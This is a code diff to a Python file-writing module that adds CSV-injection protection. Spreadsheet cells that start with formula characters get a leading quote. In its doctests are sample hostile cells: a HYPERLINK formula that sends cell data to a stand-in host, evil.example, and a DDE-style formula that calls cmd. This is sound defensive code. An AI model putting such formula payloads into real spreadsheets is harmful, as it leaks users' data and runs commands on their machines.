@@ -1,7 +1,7 @@
 """Writing and hashing files safely: one place for every module that produces files.
 
-A file written through :func:`atomic_path` or :func:`atomic_write_text` appears only
-when complete (written beside its final name, then renamed), so a reader never sees
+A file written through :func:`atomic_path`, :func:`atomic_write_text` or
+:func:`write_csv` appears only when complete (written beside its final name, then renamed), so a reader never sees
 half a file and an existing file is replaced only by a whole new one.
 
 A full disk, a read-only folder or a folder this user may not write to is raised as
@@ -37,6 +37,15 @@ For a set named ``TAG`` in folder ``D`` holding files ``NAME1, NAME2, ...``::
 A process killed at any moment therefore leaves ``D`` showing exactly the old set or
 exactly the new set; what it leaves hidden is swept by the next call (step 1).
 
+CSV cells are data, never formulas
+----------------------------------
+Every CSV the workbench writes goes through :func:`write_csv` (a table) or
+:func:`open_csv` (rows written as they come), which pass each cell through
+:func:`csv_safe`: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
+carriage return gets a leading single quote (OWASP's rule against CSV injection), so
+a spreadsheet shows the text instead of running it as a formula. Numbers, and text
+that is exactly a plain number such as ``-1.5``, are left as they are.
+
 >>> import tempfile, pathlib
 >>> p = atomic_write_text(pathlib.Path(tempfile.mkdtemp()) / "a" / "x.txt", "abc")
 >>> sha256_file(p)[:12]
@@ -45,6 +54,7 @@ exactly the new set; what it leaves hidden is swept by the next call (step 1).
 
 from __future__ import annotations
 
+import csv
 import errno
 import fcntl
 import hashlib
@@ -54,9 +64,10 @@ import secrets
 import shutil
 import signal
 import tempfile
-from collections.abc import Iterator, Sequence
+from collections.abc import Iterable, Iterator, Sequence
 from contextlib import contextmanager
 from pathlib import Path
+from typing import Any
 
 from workbench.errors import OutputWriteError
 
@@ -171,6 +182,94 @@ def atomic_write_text(path: str | Path, text: str) -> Path:
     with atomic_path(path) as tmp, open(tmp, "w", encoding="utf-8", newline="\n") as fh:
         fh.write(text)
     return path
+
+
+# ---------------------------------------------------------------------------------------
+# CSV files whose cells are data, never formulas
+
+#: First characters that make a spreadsheet read a cell as a formula (OWASP: CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def csv_safe(value: Any) -> Any:
+    """``value`` as a CSV cell that no spreadsheet runs: text starting with ``=``, ``+``,
+    ``-``, ``@``, a tab or a carriage return gets a leading ``'``; anything else (numbers,
+    text that is exactly a plain number like ``-1.5``, other text) is returned unchanged.
+
+    >>> print(csv_safe('=HYPERLINK("http://evil.example/?"&A1,"Click")'))
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")
+    >>> csv_safe("@SUM(1+1)*cmd|' /C calc'!A0")[:5]
+    "'@SUM"
+    >>> csv_safe(-0.24), csv_safe("-0.24"), csv_safe("-0.24 through waits"), csv_safe("N020")
+    (-0.24, '-0.24', "'-0.24 through waits", 'N020')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
+            and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+class SafeCsvWriter:
+    """A :func:`csv.writer` whose every cell passes through :func:`csv_safe`
+    (what :func:`open_csv` yields)."""
+
+    def __init__(self, fh, **kwargs):
+        self._writer = csv.writer(fh, **kwargs)
+
+    def writerow(self, row: Iterable[Any]) -> None:
+        """Write one row, each cell made safe."""
+        self._writer.writerow([csv_safe(v) for v in row])
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        """Write rows, each cell made safe."""
+        for row in rows:
+            self.writerow(row)
+
+
+@contextmanager
+def open_csv(path: str | Path, header: Sequence[str] | None = None) -> Iterator[SafeCsvWriter]:
+    """A :class:`SafeCsvWriter` onto ``path`` (UTF-8, ``\\n`` line ends), for rows written
+    as they are made; the file appears, whole, when the block succeeds (:func:`atomic_path`,
+    with its :class:`~workbench.errors.OutputWriteError` for a full disk or an unwritable
+    folder). ``header`` is written first when given.
+
+    >>> import tempfile, pathlib
+    >>> target = pathlib.Path(tempfile.mkdtemp()) / "t.csv"
+    >>> with open_csv(target, ["name", "value"]) as w:
+    ...     w.writerow(["=1+1", -2])
+    >>> target.read_text()
+    "name,value\\n'=1+1,-2\\n"
+    """
+    with atomic_path(path) as tmp, open(tmp, "w", encoding="utf-8", newline="") as fh:
+        writer = SafeCsvWriter(fh, lineterminator="\n")
+        if header is not None:
+            writer.writerow(header)
+        yield writer
+
+
+def write_csv(table, path: str | Path, *, index: bool = False) -> Path:
+    """Write the DataFrame ``table`` to ``path`` as CSV (pandas' formatting of numbers,
+    dates and missing values) with every text cell made safe by :func:`csv_safe`,
+    atomically (:func:`atomic_path`); return ``path``.
+
+    >>> import pandas as pd, tempfile, pathlib
+    >>> df = pd.DataFrame({"provider_name": ["@SUM(1+1)", "A"], "change": [-1.5, 2.0]})
+    >>> print(write_csv(df, pathlib.Path(tempfile.mkdtemp()) / "t.csv").read_text(), end="")
+    provider_name,change
+    '@SUM(1+1),-1.5
+    A,2.0
+    """
+    safe = table.copy(deep=False)
+    safe.columns = [csv_safe(c) if isinstance(c, str) else c for c in safe.columns]
+    for column in safe.columns:
+        values = safe[column]
+        kind = values.dtype.kind
+        if kind == "O" or str(values.dtype) in ("category", "string") or kind == "U":
+            safe[column] = values.astype(object).map(csv_safe)
+    with atomic_path(path) as tmp:
+        safe.to_csv(tmp, index=index, lineterminator="\n")
+    return Path(path)
 
 
 # ---------------------------------------------------------------------------------------
